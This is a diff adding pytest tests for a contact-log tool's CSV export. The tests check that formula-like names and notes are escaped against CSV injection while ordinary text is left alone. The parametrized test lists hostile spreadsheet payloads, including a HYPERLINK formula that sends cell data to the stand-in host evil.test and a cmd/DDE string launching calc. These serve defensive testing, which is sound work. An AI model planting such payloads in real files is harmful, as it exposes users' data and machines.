@@ -79,3 +79,30 @@ def test_csv_export_has_one_row_per_record(tmp_path: Path) -> None:
     assert len(people) == 1 and people[0]["linkedin"] == "ada" and people[0]["x_handle"] == "ada_x"
     assert {i["kind"] for i in inters} == {"in_person", "dm"}
     assert json.dumps(files)  # plain text
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("https://evil.test/?"&B2,"Ada")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
+)
+def test_csv_export_defuses_a_formula_from_a_page_or_a_message(tmp_path: Path, hostile: str) -> None:
+    """A name read from a profile page or a note from an imported DM is someone else's text: opened in a
+    spreadsheet it must stay text (CSV injection); the JSON export keeps it exact."""
+    store = Store.open(tmp_path / "a")
+    store.write(lambda s: log(s, LogRequest(kind="dm", network="x", handle="evil", note=hostile, name=hostile)))
+    state = document(store.export_state())
+    store.close()
+    files = csv_files(state)
+    [person] = csv.DictReader(io.StringIO(files["people.csv"]))
+    [message] = csv.DictReader(io.StringIO(files["interactions.csv"]))
+    assert person["name"] == message["note"] == "'" + hostile
+    assert state["people"][0]["name"] == state["interactions"][0]["note"] == hostile
+
+
+def test_csv_export_leaves_ordinary_text_alone(tmp_path: Path) -> None:
+    store = seeded(tmp_path / "a")
+    files = csv_files(document(store.export_state()))
+    store.close()
+    inters = list(csv.DictReader(io.StringIO(files["interactions.csv"])))
+    assert {i["note"] for i in inters} == {"coffee", ""}
+    assert all(i["at"][:2] == "20" for i in inters)
